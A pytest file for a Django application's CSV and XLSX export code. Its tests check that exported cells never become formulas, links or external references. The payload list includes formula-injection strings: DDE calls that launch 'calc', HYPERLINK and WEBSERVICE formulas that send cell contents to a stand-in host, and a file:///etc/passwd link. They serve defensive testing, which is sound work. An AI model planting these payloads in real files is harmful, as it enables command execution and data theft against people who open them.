"""Opening an export is safe (P34): 0 formulas, 0 links, every text as it was, whatever somebody typed."""

import csv
import re
import zipfile
from collections.abc import Mapping
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.http import QueryDict
from django.utils.translation import override
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from xlsxwriter import Workbook

from binakon.core import exports, lists
from binakon.core.exports import Export, Wanted
from binakon.core.exports.sheet import OPTIONS
from binakon.core.lists import Column, Listing
from binakon.core.models import Message
from binakon.core.problems import Blocked, NotAllowed
from tests.core.message_list import LIST, messages

AT = datetime(2026, 4, 17, 8, tzinfo=UTC)
RICH = '<r><t>x</t></r></is></c><c r="C2"><f>1+1</f><v>2</v></c><c><is><r></r>'
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    "﹢1",
    "﹣1",
    "﹦1",
    "﹫SUM(1)",
    "\u200b=1+1",
    "\u200c=1+1",
    "\u200d=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u202e=1+1",
    "\u200f=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://jahat.example/?a="&A1,"Klik")',
    '=WEBSERVICE("https://jahat.example/"&A1)',
    '=IMPORTXML("https://jahat.example","//a")',
    "{=1+1}",
    "'=1+1",
    "''=1+1",
    "https://jahat.example/",
    "mailto:a@jahat.example",
    "file:///etc/passwd",
    "internal:Sheet2!A1",
    "external:c:\\x.xlsx",
    'Budi";=1+1;"',
    "Budi;=1+1",
    "Budi\t=1+1",
    "Budi\n=1+1",
    'a,"=1+1',
    "]]></t></is></c><c><f>1+1</f></c>",
    RICH,
    "<r>tebal</r>",
    "_x003D_1+1",
    "_x0041_",
    "\ud800=1+1",
    "Budi\udfff",
    "Budi\ufffe\uffff",
    "\x01\x08\x0b\x1f",
    "\x7f\x85",
    "🧱 Siti \U0001f3d7",
    "  dua spasi  ",
    "1e5",
    "00123",
    "6305010101010001",
    "TRUE",
    "#REF!",
    "2026-04-17",
    "Hj. Siti Nor’aini, S.T.",
    "x" * 40_000,
]
TEXT_COLUMNS = ("nama", "asal", "catatan")


class Row(dict[str, Any]):
    """A row of a list that stands in no table."""


class Rows(list[Row]):
    """Rows that are asked as a queryset is."""

    def order_by(self, *_fields: str) -> "Rows":
        return self

    def iterator(self, chunk_size: int) -> Any:
        return iter(self)


def text_column(key: str) -> Column:
    return Column(key, key.title(), lambda row: row[key])


TEXTS = Listing(columns=tuple(text_column(key) for key in TEXT_COLUMNS), order=("pk",))


def an_export(listing: Listing = TEXTS, rows: Any = (), **more: Any) -> Export:
    values = {
        "title": "Pendaftaran",
        "stem": "pendaftaran",
        "by": "Staf (contoh)",
        "at": AT,
        **more,
    }
    asked = values.pop("asked", None) or lists.ask(listing, QueryDict(""))
    queryset = rows if hasattr(rows, "iterator") else Rows(rows)
    return Export(listing, queryset, asked, **values)


def row_of(column: str, payload: str) -> Row:
    return Row({key: payload if key == column else "aman" for key in TEXT_COLUMNS})


def everywhere() -> list[Row]:
    """Every payload once in every text column."""
    return [row_of(column, payload) for payload in PAYLOADS for column in TEXT_COLUMNS]


def read_csv(export: Export) -> list[list[str]]:
    text = "".join(exports.csv_parts(export)).encode("utf-8").decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))


def workbook(export: Export) -> bytes:
    with exports.write_xlsx(export) as file:
        return file.read()


def sheet(content: bytes, number: int = 0) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_index(number).to_python()


def parts(content: bytes) -> Mapping[str, str]:
    with zipfile.ZipFile(BytesIO(content)) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


def dangers(content: bytes) -> list[str]:
    """What makes a spreadsheet act: formulas, links, relations to elsewhere, cells that are not typed as text."""
    found = []
    for name, xml in parts(content).items():
        found += [
            f"{name}: {tag}" for tag in re.findall(r"<(?:f|hyperlink|oleLink|ddeLink)[ />]", xml)
        ]
        found += [
            f"{name}: external" for _ in re.findall(r'TargetMode="External"|externalLink', xml)
        ]
    return found


def test_there_are_payloads_enough_and_none_twice() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def test_no_payload_in_any_text_column_becomes_a_formula_or_a_link_in_xlsx() -> None:
    content = workbook(an_export(rows=everywhere()))
    assert dangers(content) == []
    wanted = [[exports.clean(row[key])[:32_767] for key in TEXT_COLUMNS] for row in everywhere()]
    assert sheet(content) == [["Nama", "Asal", "Catatan"], *wanted]
    kinds = set(re.findall(r'<c [^>]*?\bt="(\w+)"', parts(content)["xl/worksheets/sheet1.xml"]))
    assert kinds == {"inlineStr"}


def test_the_library_alone_would_let_formulas_in() -> None:
    """The control of the test above: without our typing, and without our sheet, the dangers are found."""
    naive, rich = BytesIO(), BytesIO()
    with Workbook(naive, {"constant_memory": True}) as book:
        plain = book.add_worksheet()
        plain.write(0, 0, "=1+1")
        plain.write(1, 0, "https://jahat.example/")
    with Workbook(rich, OPTIONS) as book:
        book.add_worksheet().write_string(0, 0, RICH)
    assert [danger.split(": ")[1] for danger in dangers(naive.getvalue())] == [
        "<f>",
        "<hyperlink ",
        "external",
    ]
    assert [danger.split(": ")[1] for danger in dangers(rich.getvalue())] == ["<f>"]


RUNS = re.compile("[\\s\u00ad\u200b-\u200d\u2060\ufeff]*[=+\\-@＝＋－＠−﹢﹣﹦﹫]|[\t\r\n]")


def test_no_payload_in_any_text_column_begins_like_a_formula_in_csv() -> None:
    table = read_csv(an_export(rows=everywhere()))
    assert [cell for line in table for cell in line if RUNS.match(cell)] == []
    assert [[exports.unprotect(cell) for cell in line] for line in table[1:]] == [
        [exports.clean(row[key]) for key in TEXT_COLUMNS] for row in everywhere()
    ]
    assert RUNS.match("=1+1")


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_spreadsheet_that_splits_elsewhere_finds_no_formula_either(delimiter: str) -> None:
    """Excel in Indonesian splits at semicolons; then a quotation begun in the middle of a field protects nothing."""
    text = "".join(exports.csv_parts(an_export(rows=everywhere()))).removeprefix("\ufeff")
    fields = re.split(f"[{delimiter}\r\n]", text)
    assert [field for field in fields if RUNS.match(field.lstrip('"'))] == []


def test_visible_text_keeps_every_letter_and_loses_only_what_no_file_can_hold() -> None:
    assert [
        exports.clean(text) for text in ("Nor’aini 🧱", "a\x00b", "a\ud800b", "\u202eab", "a\r\nb")
    ] == [
        "Nor’aini 🧱",
        "ab",
        "ab",
        "ab",
        "a\nb",
    ]


def test_csv_protects_numbers_that_a_spreadsheet_would_change_and_no_others() -> None:
    texts = [
        "6305010101010001",
        "081234567890",
        "0",
        "123456789012345",
        "0,5",
        "12 April",
        "S-1",
        "",
    ]
    assert [exports.protect(text) for text in texts] == [
        "'6305010101010001",
        "'081234567890",
        *texts[2:],
    ]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="'=+-@;\t\n \u200b09aＢ＝", max_size=12) | st.text(max_size=20))
def test_what_csv_added_is_taken_away_again(text: str) -> None:
    protected = exports.protect(text)
    assert exports.unprotect(protected) == text
    assert not re.match("[ \u200b]*[=+\\-@＝]", protected)


TYPED: tuple[tuple[str, Any], ...] = (
    ("teks", "Siti"),
    ("nik", "6305010101010001"),
    ("angka", 12),
    ("desimal", Decimal("82.5")),
    ("tanggal", date(2026, 4, 17)),
    ("saat", AT),
    ("benar", True),
    ("kosong", None),
    ("besar", 10**18),
    ("lama", date(1899, 12, 31)),
    ("bukan", float("nan")),
)
TYPED_LIST = Listing(
    columns=tuple(Column(key, key, lambda _row, value=value: value) for key, value in TYPED)
)


def test_numbers_and_dates_are_typed_and_a_nik_is_text() -> None:
    head, row = sheet(workbook(an_export(TYPED_LIST, [Row()])))
    assert dict(zip(head, row, strict=True)) == {
        "teks": "Siti",
        "nik": "6305010101010001",
        "angka": 12,
        "desimal": 82.5,
        "tanggal": date(2026, 4, 17),
        "saat": datetime(2026, 4, 17, 16, 0),  # noqa: DTZ001 - as the cell holds it, in WITA
        "benar": "ya",
        "kosong": "",
        "besar": str(10**18),
        "lama": "1899-12-31",
        "bukan": "nan",
    }
    assert read_csv(an_export(TYPED_LIST, [Row()]))[1] == [
        "Siti",
        "'6305010101010001",
        "12",
        "82.5",
        "2026-04-17",
        "2026-04-17 16:00:00",
        "ya",
        "",
        str(10**18),
        "1899-12-31",
        "nan",
    ]


def test_csv_says_in_its_first_bytes_that_it_is_utf_8_and_quotes_every_text() -> None:
    first = next(iter(exports.csv_parts(an_export()))).encode()
    assert first == b'\xef\xbb\xbf"Nama","Asal","Catatan"\r\n'


def test_a_cell_too_long_for_excel_is_cut_and_the_last_sheet_says_so() -> None:
    rows = [row_of("nama", "x" * 40_000)]
    about = dict(sheet(workbook(an_export(rows=rows)), 1))
    assert about["Dipotong"] == (
        "1 sel terlalu panjang untuk Excel dan dipotong; CSV memuat semuanya"
    )
    assert read_csv(an_export(rows=rows))[1][0] == "x" * 40_000


@pytest.mark.django_db
@pytest.mark.database
class TestRowsOfATable:
    """What is exported is what the filters find, all of it."""

    def test_every_row_found_is_written_not_only_the_page(self) -> None:
        messages(1203)
        messages(2, name="undangan")
        asked = lists.ask(LIST, QueryDict("jenis=tes&urut=perihal&halaman=3&baris=25"))
        export = an_export(LIST, Message.objects.all(), asked=asked)
        wanted = [f"Surat {number:03}" for number in range(1, 1204)]
        assert [line[0] for line in read_csv(export)[1:]] == sorted(wanted)
        book = workbook(export)
        assert [line[0] for line in sheet(book)[1:]] == sorted(wanted)
        assert sheet(book, 1) == [
            ["Isi", "Pendaftaran"],
            ["Diunduh oleh", "Staf (contoh)"],
            ["Waktu", "17 April 2026, 16.00 WITA"],
            ["Saringan", "Jenis: Tes"],
            ["Jumlah baris", "1.203"],
            ["Data pribadi", "tidak"],
        ]

    def test_personal_columns_come_only_when_they_are_asked_for(self) -> None:
        messages(1)
        without = an_export(LIST, Message.objects.all())
        with_them = an_export(LIST, Message.objects.all(), with_personal=True)
        assert read_csv(without)[0] == ["Perihal", "Keadaan", "Percobaan", "Isi"]
        assert read_csv(with_them)[0] == ["Perihal", "Kepada", "Keadaan", "Percobaan", "Isi"]
        assert b"warga@contoh.example" not in "".join(exports.csv_parts(without)).encode()
        assert sheet(workbook(with_them))[1][1] == "warga@contoh.example"
        assert (without.file_name("csv"), with_them.file_name("xlsx")) == (
            "pendaftaran-2026-04-17-1600.csv",
            "pendaftaran-data-pribadi-2026-04-17-1600.xlsx",
        )

    @pytest.mark.parametrize("form", ["csv", "xlsx"])
    def test_the_answer_is_a_download_that_nobody_keeps(self, form: str) -> None:
        messages(2)
        answer = exports.answer(an_export(LIST, Message.objects.all()), form)
        content = b"".join(answer.streaming_content)  # type: ignore[arg-type]
        answer.close()
        assert answer["Content-Disposition"] == (
            f'attachment; filename="pendaftaran-2026-04-17-1600.{form}"'
        )
        assert answer["Cache-Control"] == "no-store"
        assert b"Surat 002" in content if form == "csv" else sheet(content)[1][0] == "Surat 002"

    def test_a_streamed_file_keeps_the_language_of_whoever_asked(self) -> None:
        messages(1)
        yes = Listing(columns=(Column("a", "A", lambda row: True),))
        with override("en"):
            answer = exports.answer(an_export(yes, Message.objects.all()), "csv")
            iterator = iter(answer)
            head = next(iterator)
        with override("id"):
            rows = b"".join(iterator)
        assert (head, rows) == (b'\xef\xbb\xbf"A"\r\n', b'"yes"\r\n')


def test_a_download_with_personal_data_needs_the_right_and_a_reason() -> None:
    words = QueryDict("bentuk=csv&alasan=Daftar hadir  hari pertama")
    assert exports.wanted(words, is_personal=False) == Wanted("csv")
    assert exports.wanted(words, is_personal=True, may_personal=True) == Wanted(
        "csv", "Daftar hadir hari pertama"
    )
    assert exports.wanted(QueryDict("bentuk=exe"), is_personal=False).form == "xlsx"
    with pytest.raises(NotAllowed):
        exports.wanted(words, is_personal=True)
    with pytest.raises(Blocked):
        exports.wanted(QueryDict("alasan=+a+"), is_personal=True, may_personal=True)


@pytest.mark.parametrize("stem", ["Siti", "peserta-6305010101010001", "../x", "", 'a"b', "a b"])
def test_a_file_name_can_hold_nobodys_name_or_number(stem: str) -> None:
    with pytest.raises(ValueError, match="small letters"):
        an_export(stem=stem)
